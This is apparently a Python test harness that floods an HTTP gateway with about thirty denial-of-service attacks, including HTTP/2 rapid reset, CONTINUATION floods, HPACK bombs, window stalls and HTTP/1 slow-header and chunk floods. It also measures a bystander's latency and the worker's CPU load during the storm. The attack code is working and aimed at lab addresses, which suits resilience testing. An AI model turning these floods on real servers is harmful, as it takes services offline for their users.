# SPDX-License-Identifier: BSD-2-Clause
"""Attackers on a gateway, and what a well-behaved client notices of them.

floods.py attack KIND... [--seconds S]    a connection for each, from the next address each: its
                                          address, how it ended and after how many bytes
floods.py storm KIND... ...               attack after attack, again and again, until killed
floods.py measure KIND... --worker PID    a bystander's p99 beside a storm against its own without"""
import argparse
import itertools
import os
import signal
import socket
import subprocess
import sys
import time

from h2harm import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PADDED, PING, PREFACE,
                   PRIORITY, RST, SETTINGS, WINDOW, Connection, Ended, frame, length, literal, request,
                   settings, text)

HOST = b"www.origin.test"
ALL = END_HEADERS | END_STREAM
FEW = 400  # units put together, so that sending is not what takes the time
GET, POST = request(HOST, b"/1k.bin"), request(HOST, b"/upload", b"POST")


def units(fn, first=0, begin=b""):
    """fn(i) for each i, in pieces."""
    yield begin
    while first < 1 << 28:
        yield b"".join(fn(i) for i in range(first, first + FEW))
        first += FEW


def streams(*after):
    """A stream for each unit, opened by GET, then frames that are made from its number."""
    def unit(i):
        n = i * 2 + 1
        return frame(HEADERS, ALL, n, GET) + b"".join(a(n) for a in after)
    return units(unit)


def again(body, begin=b""):
    return units(lambda i: body, begin=begin)


def bomb(i):
    """One field of 4 KB, then a byte for each repetition."""
    head = GET + b"\x40" + text(b"b") + text(b"v" * 4000) + b"\xbe" * 12000
    return frame(HEADERS, ALL, i * 2 + 1, head)


def tables(i):
    """The encoder's table to nothing and back, entries that push each other out."""
    head = b"\x20\x3f\xe1\x1f" + GET + b"".join(b"\x40" + text(b"t%d" % k) + text(b"x" * 900) for k in range(15))
    return frame(SETTINGS, 0, 0, b"\0\1" + (4096 * (i % 2)).to_bytes(4, "big")) + frame(HEADERS, ALL, i * 2 + 1, head)


def window_zero():
    """Large answers are asked for, and never taken."""
    yield settings(window=0) + b"".join(
        frame(HEADERS, ALL, n * 2 + 1, request(HOST, b"/2m.bin")) for n in range(64))
    while True:
        yield b""


def window_one():
    """And taken a byte at a time."""
    yield settings(window=1) + b"".join(
        frame(HEADERS, ALL, n * 2 + 1, request(HOST, b"/2m.bin")) for n in range(64))
    for n in itertools.cycle(range(64)):
        yield frame(WINDOW, 0, n * 2 + 1, b"\0\0\0\1") * 4


def h1_chunks(size, extension):
    yield b"POST /upload HTTP/1.1\r\nHost: www.origin.test\r\nTransfer-Encoding: chunked\r\n\r\n"
    while True:
        yield (b"%x%s\r\n%s\r\n" % (size, extension, b"a" * size)) * 1000


H1_GET = b"GET /204 HTTP/1.1\r\nHost: www.origin.test\r\n\r\n"
EMPTY_POST = frame(HEADERS, END_HEADERS, 1, POST)
KINDS = {
    "rapid_reset": lambda: streams(lambda n: frame(RST, 0, n, b"\0\0\0\x08")),
    "made_overflow": lambda: streams(lambda n: frame(WINDOW, 0, n, b"\x7f\xff\xff\xff")),
    "made_zero": lambda: streams(lambda n: frame(WINDOW, 0, n, b"\0\0\0\0")),
    "made_late_data": lambda: streams(lambda n: frame(DATA, 0, n, b"late")),
    "made_priority": lambda: streams(lambda n: frame(PRIORITY, 0, n, b"\0\0\0\0")),
    "made_bad_head": lambda: units(lambda i: frame(HEADERS, ALL, i * 2 + 1, GET + literal(b"connection", b"x"))),
    "streams": lambda: streams(),
    "half_open": lambda: units(lambda i: frame(HEADERS, END_HEADERS, i * 2 + 1, POST)),
    "continuation": lambda: again(frame(CONTINUATION, 0, 1, literal(b"a", b"b")), frame(HEADERS, 0, 1, GET)),
    "continuation_empty": lambda: again(frame(CONTINUATION, 0, 1), frame(HEADERS, 0, 1, GET)),
    "hpack_bomb": lambda: units(bomb),
    "hpack_tables": lambda: units(tables),
    "settings": lambda: again(frame(SETTINGS)),
    "settings_many": lambda: again(settings(window=1, head=1, table=1) * 3),
    "ping": lambda: again(frame(PING, 0, 0, b"12345678")),
    "pong": lambda: again(frame(PING, ACK, 0, b"12345678")),
    "empty_data": lambda: again(frame(DATA, 0, 1), EMPTY_POST),
    "padding": lambda: again(frame(DATA, PADDED, 1, b"\x04\0\0\0\0"), EMPTY_POST),
    "old_heads": lambda: again(frame(HEADERS, ALL, 1, GET), frame(HEADERS, ALL, 1, GET) + frame(RST, 0, 1, b"\0\0\0\x08")),
    "priority": lambda: units(lambda i: frame(PRIORITY, 0, i * 2 + 1001, b"\0\0\0\1\x10")),
    "dependency_loop": lambda: units(lambda i: frame(PRIORITY, 0, i * 2 + 1, (i * 2 + 1).to_bytes(4, "big") + b"\x10")),
    "window": lambda: again(frame(WINDOW, 0, 0, b"\0\0\0\1")),
    "unknown": lambda: again(frame(0x42, 0, 0, b"?")),
    "goaway": lambda: again(frame(GOAWAY, 0, 0, bytes(8)), EMPTY_POST),
    "small_data": lambda: again(frame(DATA, 0, 1, b"a"), EMPTY_POST),
    "window_zero": window_zero,
    "window_one": window_one,
    "h1_chunks": lambda: h1_chunks(1, b""),
    "h1_extensions": lambda: h1_chunks(1, b";" + b"e" * 250),
    "h1_pipeline": lambda: again(H1_GET),
    "h1_head": lambda: again(b"X-A: b\r\n", b"GET / HTTP/1.1\r\nHost: www.origin.test\r\n"),
    "h1_trickle": lambda: iter([b"GET / HTTP/1.1\r\n"]),
}


def connect(o, alpn, source):
    return Connection((o.address, 443), HOST.decode(), o.ca, source, alpn)


def attack(o, kind, seconds):
    """Returns (how it ended, bytes sent)."""
    h1 = kind.startswith("h1_")
    try:
        c = connect(o, "http/1.1" if h1 else "h2", o.source)
    except OSError:
        return "no connection", 0
    begin = [] if h1 else [PREFACE + frame(SETTINGS)]
    how = "alive"
    try:
        c.pour(itertools.chain(begin, KINDS[kind]()), time.monotonic() + seconds)
    except Ended as e:
        how = str(e)
    if h1 and c.seen.startswith(b"HTTP/1.1 "):
        how = c.seen[9:12].decode() + " " + how
    c.close()
    return how, c.sent


def storm(o):
    for kind in itertools.cycle(o.kinds):
        if attack(o, kind, o.seconds)[0] == "no connection":
            time.sleep(0.01)


class Bystander:
    """One request after the other on a connection of its own."""

    def __init__(self, o):
        self.c, self.n = connect(o, "h2", None), -1
        self.c.s.sendall(PREFACE + frame(SETTINGS))

    def ask(self):
        self.n += 2
        begin = time.monotonic()
        self.c.s.sendall(frame(HEADERS, ALL, self.n, GET))
        self.c.until(lambda kind, flags, stream, _: stream == self.n and kind in (DATA, HEADERS) and flags & END_STREAM)
        took = time.monotonic() - begin
        self.c.s.sendall(frame(WINDOW, 0, 0, b"\0\0\x04\0"))
        return took


def worker_time(pid):
    with open(f"/proc/{pid}/stat", encoding="ascii") as f:
        part = f.read().rsplit(")", 1)[1].split()
    return (int(part[11]) + int(part[12])) / os.sysconf("SC_CLK_TCK")


def block(o, b):
    """p99 and median in ms, share of a processor that the worker used."""
    took, begin, cpu = [], time.monotonic(), worker_time(o.worker)
    while time.monotonic() < begin + o.block:
        took.append(b.ask())
        time.sleep(0.001)
    took.sort()
    share = (worker_time(o.worker) - cpu) / (time.monotonic() - begin)
    return took[int(len(took) * 0.99)] * 1000, took[len(took) // 2] * 1000, share, len(took)


def middle(rows, i):
    return sorted(r[i] for r in rows)[len(rows) // 2]


def measure(o):
    """The storm stops and goes on, so that both are measured in the same minutes."""
    b = Bystander(o)
    argv = [sys.executable, __file__, "storm", *o.kinds, "--ca", o.ca, "--address", o.address,
            "--source", o.source, "--seconds", str(o.seconds)]
    quiet, loud = [], []
    block(o, b)
    p = subprocess.Popen(["nice", "-n", "10", *argv])  # its own hunger is not what is measured
    time.sleep(0.5)
    for _ in range(o.blocks):
        loud.append(block(o, b))
        p.send_signal(signal.SIGSTOP)
        time.sleep(0.05)
        quiet.append(block(o, b))
        p.send_signal(signal.SIGCONT)
        time.sleep(0.05)
    p.kill()
    p.wait()
    print("p99 %.1f ms against %.1f ms, median %.1f against %.1f, worker %.0f%% against %.0f%%, %d requests: ratio %.2f" % (
        middle(loud, 0), middle(quiet, 0), middle(loud, 1), middle(quiet, 1), middle(loud, 2) * 100,
        middle(quiet, 2) * 100, sum(r[3] for r in loud), middle(loud, 0) / middle(quiet, 0)))


def main():
    p = argparse.ArgumentParser()
    p.add_argument("what", choices=["attack", "storm", "measure"])
    p.add_argument("kinds", nargs="+", choices=KINDS)
    p.add_argument("--ca", required=True)
    p.add_argument("--address", default="10.77.2.2")
    p.add_argument("--source", default="10.77.1.66")
    p.add_argument("--seconds", type=float, default=2)
    p.add_argument("--worker", type=int)
    p.add_argument("--block", type=float, default=0.5)
    p.add_argument("--blocks", type=int, default=5)
    o = p.parse_args()
    if o.what == "storm":
        storm(o)
    elif o.what == "measure":
        measure(o)
    else:
        for kind in o.kinds:
            how, sent = attack(o, kind, o.seconds)
            print(o.source, kind, how, sent, flush=True)
            net, last = o.source.rsplit(".", 1)
            o.source = f"{net}.{int(last) + 1}"


main()
